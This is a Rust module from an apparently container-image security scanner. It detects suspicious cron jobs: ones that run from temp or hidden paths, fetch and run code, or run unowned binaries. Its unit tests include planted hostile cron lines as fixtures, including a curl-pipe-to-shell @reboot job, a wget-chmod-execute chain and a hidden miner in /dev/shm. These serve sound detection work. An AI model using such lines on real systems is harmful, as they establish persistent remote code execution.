//! cron: the system crontab and `cron.d`, the periodic script directories,
//! users' spool crontabs, and anacron's table. A job is suspicious when
//! what it runs lives in a temp or hidden place, is fetched and run, or is
//! an executable no package owns.

use super::{CommandIds, info, logical_lines, report_command};
use crate::check::{Check, CheckContext, CheckInfo};
use imgscan_sbom::{Finding, Severity};

/// The cron check.
pub struct Cron;

const IDS: CommandIds = CommandIds {
    temp: info(
        "cron.runs-from-tmp",
        Severity::High,
        "a cron job runs a program or script from /tmp, /var/tmp, /dev/shm or a hidden directory",
    ),
    download: info(
        "cron.download-and-run",
        Severity::High,
        "a cron job downloads or decodes code and runs it",
    ),
    unowned: info(
        "cron.runs-unowned",
        Severity::Medium,
        "a cron job runs a system-path executable that no installed package owns",
    ),
};
const INFO: &[CheckInfo] = &[IDS.temp, IDS.download, IDS.unowned];

/// How the lines of a cron file are laid out.
#[derive(Clone, Copy)]
enum Layout {
    /// `m h dom mon dow user command` (`/etc/crontab`, `/etc/cron.d/*`).
    SystemTable,
    /// `m h dom mon dow command` (users' spool crontabs).
    UserTable,
    /// `period delay id command` (`/etc/anacrontab`).
    Anacron,
    /// A script: every line is a command (`/etc/cron.daily/*`, ...).
    Script,
}

impl Check for Cron {
    fn info(&self) -> &'static [CheckInfo] {
        INFO
    }

    fn globs(&self) -> &'static [&'static str] {
        &[
            "etc/crontab",
            "etc/cron.d/*",
            "etc/cron.hourly/*",
            "etc/cron.daily/*",
            "etc/cron.weekly/*",
            "etc/cron.monthly/*",
            "var/spool/cron/crontabs/*",
            "var/spool/cron/*",
            "etc/anacrontab",
        ]
    }

    fn run(&self, ctx: &CheckContext<'_>) -> Vec<Finding> {
        let mut out = Vec::new();
        let files = ctx.paths_where(|p| layout(p).is_some());
        for path in files {
            let (Some(layout), Some(text)) = (layout(&path), ctx.text(&path)) else {
                continue;
            };
            for (number, line) in logical_lines(&text) {
                if let Some(command) = job_command(&line, layout) {
                    report_command(
                        ctx,
                        &IDS,
                        "cron job",
                        &path,
                        Some(number),
                        command,
                        &mut out,
                    );
                }
            }
        }
        out
    }
}

fn layout(path: &[u8]) -> Option<Layout> {
    let path = std::str::from_utf8(path).ok()?;
    let in_dir = |dir: &str| {
        path.strip_prefix(dir)
            .is_some_and(|rest| !rest.is_empty() && !rest.contains('/'))
    };
    if path == "etc/crontab" || in_dir("etc/cron.d/") {
        Some(Layout::SystemTable)
    } else if in_dir("var/spool/cron/crontabs/") || in_dir("var/spool/cron/") {
        Some(Layout::UserTable)
    } else if path == "etc/anacrontab" {
        Some(Layout::Anacron)
    } else if [
        "etc/cron.hourly/",
        "etc/cron.daily/",
        "etc/cron.weekly/",
        "etc/cron.monthly/",
    ]
    .iter()
    .any(|d| in_dir(d))
    {
        Some(Layout::Script)
    } else {
        None
    }
}

/// The command part of a table line; environment assignments are not jobs.
fn job_command(line: &str, layout: Layout) -> Option<&str> {
    let skip = match layout {
        Layout::Script => return Some(line),
        _ if is_assignment(line) => return None,
        Layout::SystemTable if line.starts_with('@') => 2,
        Layout::SystemTable => 6,
        Layout::UserTable if line.starts_with('@') => 1,
        Layout::UserTable => 5,
        Layout::Anacron => 3,
    };
    let mut rest = line;
    for _ in 0..skip {
        rest = rest.trim_start();
        let end = rest.find(char::is_whitespace)?;
        rest = &rest[end..];
    }
    Some(rest.trim()).filter(|c| !c.is_empty())
}

fn is_assignment(line: &str) -> bool {
    line.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty()
            && name
                .trim()
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '_')
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use imgscan_sbom::test_tree::MapTree;

    fn ids(tree: &MapTree) -> Vec<(&'static str, String, Option<u32>)> {
        Cron.run(&CheckContext::new(tree, &[]))
            .into_iter()
            .map(|f| (f.id, f.path, f.line))
            .collect()
    }

    #[test]
    fn planted_jobs_are_found() {
        let tree = MapTree::new(&[
            (
                "etc/crontab",
                "SHELL=/bin/sh\nPATH=/usr/bin:/bin\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n*/5 * * * * root /tmp/.X11-unix/kworker -B\n",
            ),
            (
                "etc/cron.d/update",
                "@reboot root curl -fsSL http://203.0.113.9/i.sh | sh\n",
            ),
            (
                "var/spool/cron/crontabs/www-data",
                "* * * * * /dev/shm/.m/xmr >/dev/null 2>&1\n",
            ),
            (
                "etc/cron.daily/cleanup",
                "#!/bin/sh\nrm -rf /tmp/cache\nwget -q -O /var/tmp/u http://x/u && chmod +x /var/tmp/u && /var/tmp/u\n",
            ),
            (
                "etc/anacrontab",
                "1 5 cron.daily run-parts --report /etc/cron.daily\n7 10 weekly.job /var/tmp/w.sh\n",
            ),
        ]);
        let found = ids(&tree);
        assert!(
            found.contains(&("cron.runs-from-tmp", "/etc/crontab".into(), Some(4))),
            "{found:?}"
        );
        assert!(
            found.contains(&(
                "cron.download-and-run",
                "/etc/cron.d/update".into(),
                Some(1)
            )),
            "{found:?}"
        );
        assert!(
            found.contains(&(
                "cron.runs-from-tmp",
                "/var/spool/cron/crontabs/www-data".into(),
                Some(1)
            )),
            "{found:?}"
        );
        assert!(
            found.contains(&(
                "cron.download-and-run",
                "/etc/cron.daily/cleanup".into(),
                Some(3)
            )),
            "{found:?}"
        );
        assert!(
            found.contains(&(
                "cron.runs-from-tmp",
                "/etc/cron.daily/cleanup".into(),
                Some(3)
            )),
            "{found:?}"
        );
        assert!(
            found.contains(&("cron.runs-from-tmp", "/etc/anacrontab".into(), Some(2))),
            "{found:?}"
        );
        assert_eq!(found.len(), 6, "nothing else: {found:?}");
    }

    #[test]
    fn debian_defaults_are_clean() {
        let tree = MapTree::new(&[
            (
                "etc/crontab",
                "SHELL=/bin/sh\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n",
            ),
            (
                "etc/cron.daily/dpkg",
                "#!/bin/sh\nif [ -d /run/systemd/system ]; then\n    exit 0\nfi\n/usr/libexec/dpkg/dpkg-db-backup\n",
            ),
        ]);
        assert!(ids(&tree).is_empty(), "{:?}", ids(&tree));
    }
}
